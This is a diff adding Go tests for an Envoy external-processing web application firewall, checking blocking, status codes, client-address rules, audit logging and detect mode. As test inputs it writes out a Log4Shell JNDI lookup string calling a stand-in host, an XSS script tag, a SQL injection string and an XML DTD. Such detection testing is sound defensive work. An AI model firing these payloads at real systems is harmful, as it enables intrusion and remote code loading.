@@ -1,0 +1,207 @@
+package server
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"net"
+	"strings"
+	"sync"
+	"testing"
+
+	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
+	extproc "github.com/envoyproxy/go-control-plane/envoy/service/ext_proc/v3"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials/insecure"
+	"google.golang.org/grpc/test/bufconn"
+	"google.golang.org/protobuf/types/known/structpb"
+
+	"polycrate.local/envoy/waf/internal/audit"
+	"polycrate.local/envoy/waf/internal/settings"
+)
+
+// lockedBuffer collects the audit output; each Write is one line (audit.Writer writes a line at once).
+type lockedBuffer struct {
+	mu     sync.Mutex
+	writes []string
+}
+
+func (b *lockedBuffer) Write(p []byte) (int, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	b.writes = append(b.writes, string(p))
+	return len(p), nil
+}
+
+func (b *lockedBuffer) lines(t *testing.T) []audit.Line {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	var out []audit.Line
+	for _, w := range b.writes {
+		if strings.Count(w, "\n") != 1 || !strings.HasSuffix(w, "\n") {
+			t.Fatalf("a write is not exactly one line: %q", w)
+		}
+		var l audit.Line
+		if err := json.Unmarshal([]byte(w), &l); err != nil {
+			t.Fatal(err)
+		}
+		if l.Event == "waf" {
+			out = append(out, l)
+		}
+	}
+	return out
+}
+
+type harness struct {
+	client extproc.ExternalProcessorClient
+	out    *lockedBuffer
+}
+
+func start(t *testing.T, mutate func(*settings.Settings)) *harness {
+	t.Helper()
+	s := settings.Defaults()
+	s.CRSDir = crsDir(t)
+	if mutate != nil {
+		mutate(&s)
+	}
+	out := &lockedBuffer{}
+	w, err := New(s, audit.New(out), NewMetrics())
+	if err != nil {
+		t.Fatal(err)
+	}
+	listener := bufconn.Listen(1 << 20)
+	srv := grpc.NewServer()
+	extproc.RegisterExternalProcessorServer(srv, w)
+	go func() { _ = srv.Serve(listener) }()
+	t.Cleanup(srv.Stop)
+	conn, err := grpc.NewClient("passthrough:///bufnet",
+		grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return listener.Dial() }),
+		grpc.WithTransportCredentials(insecure.NewCredentials()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = conn.Close() })
+	return &harness{client: extproc.NewExternalProcessorClient(conn), out: out}
+}
+
+func headers(method, path string, extra map[string]string, endOfStream bool, client string) *extproc.ProcessingRequest {
+	hs := []*corev3.HeaderValue{
+		{Key: ":method", RawValue: []byte(method)},
+		{Key: ":path", RawValue: []byte(path)},
+		{Key: ":authority", RawValue: []byte("shop.example.com")},
+		{Key: "x-request-id", RawValue: []byte("req-1")},
+		{Key: "user-agent", RawValue: []byte("go-test/1.0")},
+		{Key: "accept", RawValue: []byte("*/*")},
+	}
+	for k, v := range extra {
+		hs = append(hs, &corev3.HeaderValue{Key: k, RawValue: []byte(v)})
+	}
+	msg := &extproc.ProcessingRequest{Request: &extproc.ProcessingRequest_RequestHeaders{
+		RequestHeaders: &extproc.HttpHeaders{Headers: &corev3.HeaderMap{Headers: hs}, EndOfStream: endOfStream}}}
+	if client != "" {
+		msg.Attributes = map[string]*structpb.Struct{"envoy.filters.http.ext_proc": {Fields: map[string]*structpb.Value{
+			"source.address": structpb.NewStringValue(client),
+		}}}
+	}
+	return msg
+}
+
+// exchange sends the messages and returns the status of the answer to the last one (0: continue).
+func (h *harness) exchange(t *testing.T, msgs ...*extproc.ProcessingRequest) int {
+	t.Helper()
+	stream, err := h.client.Process(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	var last *extproc.ProcessingResponse
+	for _, m := range msgs {
+		if err := stream.Send(m); err != nil {
+			t.Fatal(err)
+		}
+		if last, err = stream.Recv(); err != nil {
+			t.Fatal(err)
+		}
+		if ir := last.GetImmediateResponse(); ir != nil {
+			return int(ir.GetStatus().GetCode())
+		}
+	}
+	_ = stream.CloseSend()
+	return 0
+}
+
+func body(data string) *extproc.ProcessingRequest {
+	return &extproc.ProcessingRequest{Request: &extproc.ProcessingRequest_RequestBody{
+		RequestBody: &extproc.HttpBody{Body: []byte(data), EndOfStream: true}}}
+}
+
+// The public server's defects, each a test here: a header-borne attack on a bodiless GET (phase 2 must
+// run: no fast path), and a query with a malformed escape after the attack (the raw URI goes to the
+// engine). Mutation: skipping ProcessRequestBody for end_of_stream headers -> red (jndi passes).
+func TestNoFastPathAndRawURI(t *testing.T) {
+	h := start(t, nil)
+	if got := h.exchange(t, headers("GET", "/", map[string]string{"x-api-version": "${jndi:ldap://evil.example/a}"}, true, "")); got != 403 {
+		t.Errorf("jndi header on GET /: %d, want 403", got)
+	}
+	if got := h.exchange(t, headers("GET", "/?q=<script>alert(1)</script>&x=%zz", nil, true, "")); got != 403 {
+		t.Errorf("xss before a malformed escape: %d, want 403", got)
+	}
+	if got := h.exchange(t, headers("GET", "/search?q=envoy+gateway", nil, true, "")); got != 0 {
+		t.Errorf("benign GET: %d, want continue", got)
+	}
+}
+
+// Statuses: 413 past the limit (reject), 400 for an unparsable body and for XML with a DTD.
+func TestStatuses(t *testing.T) {
+	h := start(t, func(s *settings.Settings) { s.BodyLimit = 1024 })
+	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(strings.Repeat("a", 2048))); got != 413 {
+		t.Errorf("too large: %d", got)
+	}
+	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(`{"a": `)); got != 400 {
+		t.Errorf("bad JSON: %d", got)
+	}
+	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/xml"}, false, ""), body(`<!DOCTYPE a><a/>`)); got != 400 {
+		t.Errorf("DTD: %d", got)
+	}
+	if got := h.exchange(t, headers("POST", "/api", map[string]string{"content-type": "application/json"}, false, ""), body(`{"a": "b"}`)); got != 0 {
+		t.Errorf("benign JSON: %d", got)
+	}
+}
+
+// The client comes from Envoy's source.address attribute: REMOTE_ADDR rules see it and the audit line
+// names it. Mutation: not passing the attribute to ProcessConnection -> red.
+func TestClientAddress(t *testing.T) {
+	h := start(t, func(s *settings.Settings) {
+		s.ExtraDirectives = `SecRule REMOTE_ADDR "@ipMatch 192.0.2.66" "id:10001,phase:1,deny,status:403,log,msg:'banned client'"`
+	})
+	if got := h.exchange(t, headers("GET", "/", nil, true, "192.0.2.66:40000")); got != 403 {
+		t.Errorf("banned client: %d", got)
+	}
+	if got := h.exchange(t, headers("GET", "/", nil, true, "192.0.2.67:40000")); got != 0 {
+		t.Errorf("other client: %d", got)
+	}
+	if got := h.exchange(t, headers("GET", "/?id=1'%20OR%20'1'='1", nil, true, "[2001:db8::5]:1234")); got != 403 {
+		t.Errorf("sqli: %d", got)
+	}
+	lines := h.out.lines(t)
+	if len(lines) != 2 || lines[0].Client != "192.0.2.66" || lines[1].Client != "2001:db8::5" {
+		t.Fatalf("audit lines: %+v", lines)
+	}
+	if lines[0].RuleIDs[0] != 10001 || lines[0].Action != "block" || lines[0].RequestID != "req-1" {
+		t.Errorf("audit line: %+v", lines[0])
+	}
+}
+
+// Detect mode never blocks, logs "detect" with the evaluation rule.
+func TestDetect(t *testing.T) {
+	h := start(t, func(s *settings.Settings) { s.Mode = "detect" })
+	if got := h.exchange(t, headers("GET", "/?id=1'%20OR%20'1'='1", nil, true, "")); got != 0 {
+		t.Errorf("detect blocked: %d", got)
+	}
+	lines := h.out.lines(t)
+	if len(lines) != 1 || lines[0].Action != "detect" {
+		t.Fatalf("audit: %+v", lines)
+	}
+	if !bytes.Contains([]byte(strings.Join(lines[0].Messages, "|")), []byte("SQL")) {
+		t.Errorf("messages: %v", lines[0].Messages)
+	}
+}
